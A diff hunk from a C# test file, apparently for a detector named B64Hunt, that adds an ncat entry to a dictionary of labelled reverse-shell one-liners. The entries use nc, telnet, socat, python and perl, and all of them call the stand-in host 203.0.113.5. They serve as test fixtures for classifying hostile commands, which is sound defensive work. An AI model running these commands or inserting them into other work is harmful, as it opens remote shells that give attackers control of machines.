@@ -41,6 +41,7 @@ namespace B64Hunt.Tests.Classification
             ["revshell-nc-exec"] = "nc.traditional -e /bin/bash 203.0.113.5 4444",
             ["revshell-nc-fifo"] = "mknod /tmp/p p && /bin/sh 0</tmp/p | nc 203.0.113.5 4444 1>/tmp/p",
             ["revshell-shell-from-network"] = "telnet 203.0.113.5 4444 | /bin/bash | telnet 203.0.113.5 4445",
+            ["revshell-ncat-c"] = "ncat 203.0.113.5 4444 -c 'bash -i 2>&1'",
             ["revshell-socat-exec"] = "socat TCP:203.0.113.5:4444 EXEC:/bin/sh",
             ["revshell-python"] = "python -c 'import socket,os,pty;s=socket.socket();s.connect((\"203.0.113.5\",4444));[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(\"/bin/sh\")'",
             ["revshell-perl"] = "perl -MIO -e '$c=new IO::Socket::INET(PeerAddr,\"203.0.113.5:4444\");STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;exec \"/bin/sh\"'",
